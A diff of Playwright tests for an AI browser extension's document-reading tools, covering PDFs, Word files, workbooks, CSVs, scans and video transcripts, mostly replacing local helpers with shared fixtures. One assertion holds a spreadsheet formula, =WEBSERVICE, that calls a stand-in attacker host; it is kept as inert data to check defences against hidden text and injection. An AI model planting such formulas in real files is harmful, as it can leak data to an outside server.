@@ -7,7 +7,6 @@
 import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
-import type { Page } from '@playwright/test';
 import { serveStatic } from '../harness/serve-static';
 import { makePdf } from '../documents/make-documents';
 import { FILE_ACCESS_OFF } from '../../lib/tools/page/read-document-tab';
@@ -33,6 +32,9 @@ import {
   openPanel,
   sendChat,
   test,
+  toolCall,
+  toolCard,
+  toolResults,
 } from './fixtures';
 
 const modelsDir = resolve(process.env.TABWISE_MODELS_DIR ?? '../shared/models');
@@ -44,15 +46,6 @@ test.beforeAll(async () => {
 });
 test.afterAll(async () => web?.close());
 
-const call = (name: string, args: unknown) => ({ toolCalls: [{ name, arguments: JSON.stringify(args) }] });
-const card = (panel: Page, tool: string) => panel.locator(`.tool-card[data-tool="${tool}"]`);
-
-/** Every tool result the model was sent in the run's last request (the OpenAI wire: role "tool" messages). */
-function toolResults(body: unknown): string[] {
-  const messages = (body as { messages: { role: string; content: unknown }[] }).messages;
-  return messages.filter((m) => m.role === 'tool').map((m) => String(m.content));
-}
-
 test('fetch_url reads a PDF by page without its hidden text, a Word file, a workbook and a CSV; a scan says it has no text', async ({
   context,
   extensionId,
@@ -62,16 +55,16 @@ test('fetch_url reads a PDF by page without its hidden text, a Word file, a work
   test.setTimeout(120_000);
   await addFakeProvider(extPage, llm);
   llm.enqueue(
-    call('fetch_url', { url: `${web.url}/report.pdf` }),
-    call('fetch_url', { url: `${web.url}/policy.docx` }),
-    call('fetch_url', { url: `${web.url}/figures.xlsx` }),
-    call('fetch_url', { url: `${web.url}/list.csv` }),
-    call('fetch_url', { url: `${web.url}/scan.pdf` }),
+    toolCall('fetch_url', { url: `${web.url}/report.pdf` }),
+    toolCall('fetch_url', { url: `${web.url}/policy.docx` }),
+    toolCall('fetch_url', { url: `${web.url}/figures.xlsx` }),
+    toolCall('fetch_url', { url: `${web.url}/list.csv` }),
+    toolCall('fetch_url', { url: `${web.url}/scan.pdf` }),
     { text: ['Revenue was 4.2 million euros (page 1).'] },
   );
   const panel = await openPanel(context, extensionId);
   await sendChat(panel, 'Read the report, the policy and the figures.');
-  await card(panel, 'fetch_url').first().getByRole('button', { name: 'Approve' }).click({ timeout: 30_000 });
+  await toolCard(panel, 'fetch_url').first().getByRole('button', { name: 'Approve' }).click({ timeout: 30_000 });
   const answer = assistantMessages(panel).last();
   await expect(answer).toHaveAttribute('data-status', 'complete', { timeout: 90_000 });
 
@@ -93,8 +86,8 @@ test('fetch_url reads a PDF by page without its hidden text, a Word file, a work
   expect(csv!.markdown).toContain('| Grace | =WEBSERVICE("https://evil.example/csv") |');
   expect(scan!.notes).toContain('Every page is an image with no text layer (a scan): there is no text to read.');
   // The cards show every call as done.
-  await expect(card(panel, 'fetch_url')).toHaveCount(5);
-  for (let i = 0; i < 5; i++) await expect(card(panel, 'fetch_url').nth(i)).toHaveAttribute('data-status', 'done');
+  await expect(toolCard(panel, 'fetch_url')).toHaveCount(5);
+  for (let i = 0; i < 5; i++) await expect(toolCard(panel, 'fetch_url').nth(i)).toHaveAttribute('data-status', 'done');
   await lookAt(panel, 'documents-fetched');
   // Nothing in a document made a request of its own: the fake web heard only the five fetches.
   expect(
@@ -115,7 +108,7 @@ test('read_page on a tab showing a PDF behind a login reads it with the cookies 
   await context.addCookies([{ ...SESSION_COOKIE, url: web.url }]);
   const tab = await context.newPage();
   await tab.goto(`${web.url}/members/statement.pdf`);
-  llm.enqueue(call('read_page', {}), { text: ['Your balance was 1,234.56 euros.'] });
+  llm.enqueue(toolCall('read_page', {}), { text: ['Your balance was 1,234.56 euros.'] });
   const panel = await openPanel(context, extensionId);
   await sendChat(panel, 'Summarise this PDF.');
   const answer = assistantMessages(panel).last();
@@ -131,7 +124,7 @@ test('read_page on a tab showing a PDF behind a login reads it with the cookies 
   expect(
     fetches.every((r) => String(r.headers.cookie).includes(`${SESSION_COOKIE.name}=${SESSION_COOKIE.value}`)),
   ).toBe(true);
-  await expect(card(panel, 'read_page')).toHaveAttribute('data-status', 'done');
+  await expect(toolCard(panel, 'read_page')).toHaveAttribute('data-status', 'done');
   // For a person to look at: the PDF's card at 320 and 360 px, light and dark.
   await lookAt(panel, 'pdf-tab-read');
 });
@@ -191,7 +184,7 @@ test("a PDF read in a tab with remembering on is indexed by page and cited at it
     expect(hidden.filter((p) => /PDF-HIDDEN|PDF-TINY/.test(p.text))).toEqual([]);
 
     await addFakeProvider(extPage, llm);
-    llm.enqueue(call('search_history', { query: 'Lisbon office opened' }), { text: ['It opened in March.'] });
+    llm.enqueue(toolCall('search_history', { query: 'Lisbon office opened' }), { text: ['It opened in March.'] });
     const panel = await openPanel(context, extensionId);
     await sendChat(panel, 'When did the Lisbon office open?');
     await expect(assistantMessages(panel).last()).toHaveAttribute('data-status', 'complete', { timeout: 90_000 });
@@ -209,7 +202,7 @@ test("a PDF read in a tab with remembering on is indexed by page and cited at it
       text: PDF_FACTS[1],
     });
     // The card quotes the page's passage, and its citation chip opens the PDF at that page.
-    const first = card(panel, 'search_history').locator('.card-passages li').first();
+    const first = toolCard(panel, 'search_history').locator('.card-passages li').first();
     await expect(first.locator('.page-content')).toContainText(PDF_FACTS[1]!);
     const chip = first.locator('.citation-chip');
     const [opened] = await Promise.all([context.waitForEvent('page'), chip.click()]);
@@ -244,7 +237,7 @@ test('read_page on a local file:// PDF reads it by page while file access is all
     const tab = await context.newPage();
     await tab.goto(fileUrl);
     // Allowed (an extension loaded from the command line has file access until someone turns it off).
-    llm.enqueue(call('read_page', {}), { text: ['The greenhouse costs 3,100 euros.'] });
+    llm.enqueue(toolCall('read_page', {}), { text: ['The greenhouse costs 3,100 euros.'] });
     let panel = await openPanel(context, extensionId);
     await sendChat(panel, 'Summarise this PDF.');
     await expect(assistantMessages(panel).last()).toHaveAttribute('data-status', 'complete', { timeout: 90_000 });
@@ -256,7 +249,7 @@ test('read_page on a local file:// PDF reads it by page while file access is all
     expect(reading.markdown).toBe(`--- Page 1 ---\n${LOCAL_FACTS[0]}\n\n--- Page 2 ---\n${LOCAL_FACTS[1]}`);
     expect(reading.title).toBe('Garden club');
     expect(reading.url).toBe(fileUrl);
-    await expect(card(panel, 'read_page')).toHaveAttribute('data-status', 'done');
+    await expect(toolCard(panel, 'read_page')).toHaveAttribute('data-status', 'done');
 
     // Turned off in chrome://extensions: the answer says how to turn it on, to the model and on the card.
     await setFileAccess(context, extensionId, false);
@@ -265,7 +258,7 @@ test('read_page on a local file:// PDF reads it by page while file access is all
     expect(await options.evaluate(() => chrome.extension.isAllowedFileSchemeAccess())).toBe(false);
     await tab.bringToFront();
     const before = chatRequests(llm).length;
-    llm.enqueue(call('read_page', {}), { text: ['Tabwise may not read local files yet.'] });
+    llm.enqueue(toolCall('read_page', {}), { text: ['Tabwise may not read local files yet.'] });
     panel = await openPanel(context, extensionId);
     // The panel reopens on the conversation above: send once it is shown, so the new answer is the second one.
     await expect(assistantMessages(panel)).toHaveCount(1);
@@ -277,7 +270,7 @@ test('read_page on a local file:// PDF reads it by page while file access is all
     expect(refused).toContain(FILE_ACCESS_OFF);
     expect(refused).toContain('turn on "Allow access to file URLs"');
     expect(refused).not.toContain(LOCAL_FACTS[0]);
-    await expect(card(panel, 'read_page').locator('.tool-error')).toContainText('Allow access to file URLs');
+    await expect(toolCard(panel, 'read_page').locator('.tool-error')).toContainText('Allow access to file URLs');
   } finally {
     // The shared browser's next test expects the extension as installed.
     await setFileAccess(context, extensionId, true).catch(() => undefined);
@@ -296,11 +289,11 @@ test('a scanned PDF read by a model that takes images comes with its page as an 
   await addFakeProvider(extPage, llm, 'gpt-4o');
   const tab = await context.newPage();
   await tab.goto(`${web.url}/scan.pdf`);
-  llm.enqueue(call('read_page', {}), { text: ['The page is a grey scan.'] });
+  llm.enqueue(toolCall('read_page', {}), { text: ['The page is a grey scan.'] });
   const panel = await openPanel(context, extensionId);
   await sendChat(panel, 'What does this scan say?');
   await expect(assistantMessages(panel).last()).toHaveAttribute('data-status', 'complete', { timeout: 90_000 });
-  await expect(card(panel, 'read_page')).toHaveAttribute('data-status', 'done');
+  await expect(toolCard(panel, 'read_page')).toHaveAttribute('data-status', 'done');
   const body = chatRequests(llm).at(-1)!.body as {
     messages: { role: string; content: string | { type: string; text?: string; image_url?: { url: string } }[] }[];
   };
@@ -340,11 +333,11 @@ test('read_page on a page with a captioned video returns its transcript with tim
   await addFakeProvider(extPage, llm);
   const tab = await context.newPage();
   await tab.goto(`${web.url}/video`);
-  llm.enqueue(call('read_page', {}), { text: ['The lighthouse was first lit in 1887 ([1:05](...)).'] });
+  llm.enqueue(toolCall('read_page', {}), { text: ['The lighthouse was first lit in 1887 ([1:05](...)).'] });
   const panel = await openPanel(context, extensionId);
   await sendChat(panel, 'What does the video say?');
   await expect(assistantMessages(panel).last()).toHaveAttribute('data-status', 'complete', { timeout: 90_000 });
-  await expect(card(panel, 'read_page')).toHaveAttribute('data-status', 'done');
+  await expect(toolCard(panel, 'read_page')).toHaveAttribute('data-status', 'done');
   const reading = JSON.parse(unwrapUntrusted(toolResults(chatRequests(llm).at(-1)!.body).at(-1)!)) as {
     markdown: string;
     videoTranscripts: string;
